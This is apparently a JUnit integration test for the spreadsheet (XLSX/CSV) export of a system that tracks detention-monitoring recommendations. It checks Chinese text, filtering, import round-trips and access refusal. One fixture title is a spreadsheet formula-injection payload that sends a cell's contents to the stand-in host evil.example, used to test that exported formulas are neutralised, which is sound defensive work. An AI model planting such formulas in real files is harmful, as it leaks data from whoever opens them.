package org.opcat.followup.query.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.opcat.followup.query.FixedClock.at;

import java.time.Duration;
import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.opcat.followup.events.authority.AuthorityKind;
import org.opcat.followup.events.authority.AuthorityRegistered;
import org.opcat.followup.events.place.PlaceOfDetentionRegistered;
import org.opcat.followup.events.place.PlaceType;
import org.opcat.followup.events.recommendation.ActionPlanFiled;
import org.opcat.followup.events.recommendation.AuthorityResponseRecorded;
import org.opcat.followup.events.recommendation.Channel;
import org.opcat.followup.events.recommendation.FollowUpVisitRecorded;
import org.opcat.followup.events.recommendation.ImplementationStatus;
import org.opcat.followup.events.recommendation.Measure;
import org.opcat.followup.events.recommendation.Position;
import org.opcat.followup.events.recommendation.Priority;
import org.opcat.followup.events.recommendation.RecommendationIssued;
import org.opcat.followup.events.recommendation.Scope;
import org.opcat.followup.events.recommendation.Source;
import org.opcat.followup.events.recommendation.SourceKind;
import org.opcat.followup.query.EventLog;
import org.opcat.followup.query.QueryServiceTest;
import org.opcat.followup.spreadsheet.FileFormat;
import org.opcat.followup.spreadsheet.Sheet;
import org.opcat.followup.spreadsheet.SheetReader;
import org.opcat.followup.spreadsheet.SheetRow;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.ResponseEntity;

/**
 * The export, read back with the import's own reader: every cell the import needs is there and
 * equal to what was recorded, Chinese intact, in CSV (with a byte order mark) and XLSX, filtered
 * like the list. command-service's ChineseSheetTest imports a workbook of this layout.
 */
@QueryServiceTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ExportTest {

    static final UUID MINISTRY = UUID.fromString("e0000000-0000-0000-0000-00000000000a");
    static final UUID ADMINISTRATION = UUID.fromString("e0000000-0000-0000-0000-00000000000b");
    static final UUID PRISON = UUID.fromString("e0000000-0000-0000-0000-0000000000f1");
    static final UUID R1 = UUID.fromString("e1000000-0000-0000-0000-000000000001");
    static final UUID R2 = UUID.fromString("e1000000-0000-0000-0000-000000000002");
    static final UUID PLAN = UUID.fromString("e3000000-0000-0000-0000-000000000001");
    /** Text a spreadsheet program would run as a formula, and a genuine quote before an "=". */
    static final String R2_TITLE = "=HYPERLINK(\"https://evil.example/?d=\"&B5,\"End the use of restraint beds\")";
    static final String R2_TEXT = "'=A1 is how a spreadsheet shows a formula as text. Restraint beds should be removed.";
    static final String R2_STANDARD = "@SPT guidance on restraint";

    @Autowired
    EventLog events;
    @Autowired
    TestRestTemplate http;

    @BeforeAll
    void record() {
        LocalDate d = LocalDate.of(2026, 1, 2);
        events.append("Authority", MINISTRY, 0, new AuthorityRegistered(MINISTRY, "司法部", AuthorityKind.MINISTRY, null), "admin", at(d));
        events.append("Authority", ADMINISTRATION, 0, new AuthorityRegistered(ADMINISTRATION, "监狱管理局",
                AuthorityKind.DETENTION_ADMINISTRATION, MINISTRY), "admin", at(d));
        events.append("PlaceOfDetention", PRISON, 0, new PlaceOfDetentionRegistered(PRISON, "第一监狱", PlaceType.PRISON, "北京",
                ADMINISTRATION), "admin", at(d));
        events.recommendation(R1)
                .then(new RecommendationIssued(R1, "2026/查访-1/建议-1", "单独监禁不得超过15天",
                        "国家预防机制建议：单独监禁不得超过连续15天，并记录每一次使用。\n第二段，含逗号,和\"引号\"。", "zh",
                        LocalDate.of(2026, 1, 10), new Source(SourceKind.VISIT_REPORT, "查访报告 2026/V-1"), PRISON,
                        List.of(ADMINISTRATION, MINISTRY), List.of("单独监禁", "医疗"), Scope.PLACE_SPECIFIC, Priority.URGENT,
                        List.of("《纳尔逊·曼德拉规则》第44条", "Istanbul Protocol"), LocalDate.of(2026, 3, 1), false),
                        "analyst", at(LocalDate.of(2026, 1, 11)))
                .then(new AuthorityResponseRecorded(R1, UUID.randomUUID(), ADMINISTRATION, LocalDate.of(2026, 2, 20),
                        Channel.WRITTEN, Position.PARTIALLY_ACCEPTED, "我局部分接受该建议。", "复函〔2026〕7号"), "analyst",
                        at(LocalDate.of(2026, 2, 21)))
                .then(new ActionPlanFiled(R1, PLAN, ADMINISTRATION, LocalDate.of(2026, 3, 5), List.of(
                        new Measure("修订管理规定", "法规处", LocalDate.of(2026, 5, 1)),
                        new Measure("开展全员培训", "培训中心", LocalDate.of(2026, 9, 30)))), "analyst", at(LocalDate.of(2026, 3, 6)))
                .then(new FollowUpVisitRecorded(R1, UUID.randomUUID(), LocalDate.of(2026, 4, 10), PRISON, "规定已修订。",
                        ImplementationStatus.IN_PROGRESS), "analyst", at(LocalDate.of(2026, 4, 11)));
        events.recommendation(R2)
                .then(new RecommendationIssued(R2, "2025/T-2/R-1", R2_TITLE, R2_TEXT, "en", LocalDate.of(2025, 11, 1),
                        new Source(SourceKind.THEMATIC_REPORT, null), null, List.of(MINISTRY), List.of("use-of-force"),
                        Scope.SYSTEMIC, Priority.NORMAL, List.of(R2_STANDARD), null, true), "analyst",
                        at(LocalDate.of(2025, 11, 2)));
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            ResponseEntity<String> list = http.getForEntity("/api/recommendations?q=建议-1", String.class);
            ResponseEntity<String> all = http.getForEntity("/api/recommendations", String.class);
            return list.getBody() != null && list.getBody().contains("ACTION_PLAN_FILED")
                    && all.getBody() != null && all.getBody().contains("\"totalElements\":2");
        });
    }

    private Map<Sheet, List<SheetRow>> xlsx(String query) {
        ResponseEntity<byte[]> answer = http.getForEntity("/api/exports/recommendations.xlsx" + query, byte[].class);
        assertThat(answer.getStatusCode().value()).isEqualTo(200);
        assertThat(answer.getHeaders().getContentType().toString()).startsWith(FileFormat.XLSX.mediaType());
        return SheetReader.read(answer.getBody(), FileFormat.XLSX, null);
    }

    @Test
    void theWorkbookHoldsEveryCellTheImportNeeds() {
        Map<Sheet, List<SheetRow>> sheets = xlsx("?sort=issuedOn,desc");
        List<SheetRow> recommendations = sheets.get(Sheet.RECOMMENDATIONS);
        assertThat(recommendations).hasSize(2);
        Map<String, String> expected = new LinkedHashMap<>();
        expected.put("reference", "2026/查访-1/建议-1");
        expected.put("title", "单独监禁不得超过15天");
        expected.put("text", "国家预防机制建议：单独监禁不得超过连续15天，并记录每一次使用。\n第二段，含逗号,和\"引号\"。");
        expected.put("language", "zh");
        expected.put("issuedOn", "2026-01-10");
        expected.put("sourceKind", "VISIT_REPORT");
        expected.put("documentReference", "查访报告 2026/V-1");
        expected.put("place", "第一监狱");
        expected.put("addressees", "监狱管理局;司法部");
        expected.put("themes", "单独监禁;医疗");
        expected.put("scope", "PLACE_SPECIFIC");
        expected.put("priority", "URGENT");
        expected.put("standards", "《纳尔逊·曼德拉规则》第44条;Istanbul Protocol");
        expected.put("responseDueOn", "2026-03-01");
        expected.put("confidential", "false");
        assertThat(recommendations.get(0).cells()).isEqualTo(expected);
        assertThat(recommendations.get(1).value("reference")).isEqualTo("2025/T-2/R-1");
        assertThat(recommendations.get(1).value("confidential")).isEqualTo("true");
        assertThat(recommendations.get(1).value("place")).isNull();

        SheetRow response = sheets.get(Sheet.RESPONSES).get(0);
        assertThat(response.cells()).containsEntry("authority", "监狱管理局").containsEntry("position", "PARTIALLY_ACCEPTED")
                .containsEntry("receivedOn", "2026-02-20").containsEntry("text", "我局部分接受该建议。")
                .containsEntry("documentReference", "复函〔2026〕7号").containsEntry("channel", "WRITTEN");
        List<SheetRow> measures = sheets.get(Sheet.ACTION_PLANS);
        assertThat(measures).hasSize(2);
        assertThat(measures).allSatisfy(m -> assertThat(m.cells()).containsEntry("planKey", PLAN.toString())
                .containsEntry("authority", "监狱管理局").containsEntry("filedOn", "2026-03-05"));
        assertThat(measures.get(1).cells()).containsEntry("measure", "开展全员培训").containsEntry("responsibleUnit", "培训中心")
                .containsEntry("targetDate", "2026-09-30");
        assertThat(sheets.get(Sheet.FOLLOW_UP_VISITS).get(0).cells()).containsEntry("place", "第一监狱")
                .containsEntry("assessedStatus", "IN_PROGRESS").containsEntry("findings", "规定已修订。");
    }

    /**
     * The export of this story is kept as a file in command-service's tests, which import it into an
     * empty system (ExportRoundTripTest): the two halves of the round trip meet in that file. When the
     * export changes on purpose, write it anew with -Dfollowup.export.fixture=write.
     */
    @Test
    void theExportIsTheFileCommandServiceImports() throws Exception {
        ResponseEntity<byte[]> answer = http.getForEntity("/api/exports/recommendations.xlsx?lang=zh&sort=reference", byte[].class);
        java.nio.file.Path fixture = java.nio.file.Path.of("..", "command-service", "src", "test", "resources", "importing",
                "exported-recommendations.xlsx");
        if ("write".equals(System.getProperty("followup.export.fixture"))) {
            java.nio.file.Files.createDirectories(fixture.getParent());
            java.nio.file.Files.write(fixture, answer.getBody());
        }
        assertThat(fixture).as("command-service's copy of this export").exists();
        Map<Sheet, List<SheetRow>> exported = SheetReader.read(answer.getBody(), FileFormat.XLSX, null);
        Map<Sheet, List<SheetRow>> kept = SheetReader.read(java.nio.file.Files.readAllBytes(fixture), FileFormat.XLSX, null);
        for (Sheet sheet : Sheet.values()) {
            assertThat(exported.get(sheet)).extracting(SheetRow::cells).as(sheet.key())
                    .isEqualTo(kept.get(sheet).stream().map(SheetRow::cells).toList());
        }
    }

    @Test
    void chineseHeadersAndTheListFilters() {
        Map<Sheet, List<SheetRow>> sheets = xlsx("?lang=zh&theme=医疗");
        assertThat(sheets.get(Sheet.RECOMMENDATIONS)).extracting(r -> r.value("reference")).containsExactly("2026/查访-1/建议-1");
        assertThat(xlsx("?open=true&priority=NORMAL").get(Sheet.RECOMMENDATIONS)).extracting(r -> r.value("reference"))
                .containsExactly("2025/T-2/R-1");
    }

    @Test
    void csvIsUtf8WithAByteOrderMarkAndOneSheet() {
        ResponseEntity<byte[]> answer = http.getForEntity("/api/exports/recommendations.csv?lang=zh&sort=reference", byte[].class);
        assertThat(answer.getStatusCode().value()).isEqualTo(200);
        byte[] body = answer.getBody();
        assertThat(new byte[] {body[0], body[1], body[2]}).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(body, java.nio.charset.StandardCharsets.UTF_8)).startsWith("\uFEFF编号,标题,正文");
        List<SheetRow> rows = SheetReader.read(body, FileFormat.CSV, Sheet.RECOMMENDATIONS).get(Sheet.RECOMMENDATIONS);
        assertThat(rows).extracting(r -> r.value("reference")).containsExactly("2025/T-2/R-1", "2026/查访-1/建议-1");
        assertThat(rows.get(1).value("text")).contains("\n第二段，含逗号,和\"引号\"");

        ResponseEntity<byte[]> responses = http.getForEntity("/api/exports/recommendations.csv?sheet=responses", byte[].class);
        assertThat(SheetReader.read(responses.getBody(), FileFormat.CSV, Sheet.RESPONSES).get(Sheet.RESPONSES)).hasSize(1);
    }

    @Test
    void noCellOpensAsAFormulaAndTheImportReadsBackWhatWasRecorded() throws Exception {
        String csv = new String(http.getForEntity("/api/exports/recommendations.csv?sort=reference", byte[].class).getBody(),
                java.nio.charset.StandardCharsets.UTF_8).substring(1);
        try (org.apache.commons.csv.CSVParser parser = org.apache.commons.csv.CSVParser.parse(csv,
                org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            org.apache.commons.csv.CSVRecord r2 = parser.getRecords().get(0);
            assertThat(r2.get("title")).isEqualTo("'" + R2_TITLE);
            assertThat(r2.get("text")).isEqualTo("'" + R2_TEXT);
            assertThat(r2.get("standards")).isEqualTo("'" + R2_STANDARD);
        }
        byte[] xlsx = http.getForEntity("/api/exports/recommendations.xlsx?sort=reference", byte[].class).getBody();
        try (org.apache.poi.xssf.usermodel.XSSFWorkbook workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(
                new java.io.ByteArrayInputStream(xlsx))) {
            org.apache.poi.ss.usermodel.Cell title = workbook.getSheetAt(0).getRow(1).getCell(1);
            assertThat(title.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
            assertThat(title.getStringCellValue()).isEqualTo("'" + R2_TITLE);
        }
        for (Map<Sheet, List<SheetRow>> read : List.of(SheetReader.read(xlsx, FileFormat.XLSX, null),
                SheetReader.read(("\uFEFF" + csv).getBytes(java.nio.charset.StandardCharsets.UTF_8), FileFormat.CSV,
                        Sheet.RECOMMENDATIONS))) {
            SheetRow r2 = read.get(Sheet.RECOMMENDATIONS).get(0);
            assertThat(r2.value("title")).isEqualTo(R2_TITLE);
            assertThat(r2.value("text")).isEqualTo(R2_TEXT);
            assertThat(r2.value("standards")).isEqualTo(R2_STANDARD);
        }
    }

    @Test
    void badParametersAndReportersAreRefused() {
        assertThat(http.getForEntity("/api/exports/recommendations.csv?sheet=budget", String.class).getStatusCode().value()).isEqualTo(400);
        assertThat(http.getForEntity("/api/exports/recommendations.xlsx?lang=fr", String.class).getStatusCode().value()).isEqualTo(400);
        assertThat(http.getForEntity("/api/exports/recommendations.xlsx?sort=colour", String.class).getStatusCode().value()).isEqualTo(400);
        assertThat(http.withBasicAuth("reporter", "reporter-demo").getForEntity("/api/exports/recommendations.csv", String.class)
                .getStatusCode().value()).isEqualTo(403);
    }
}
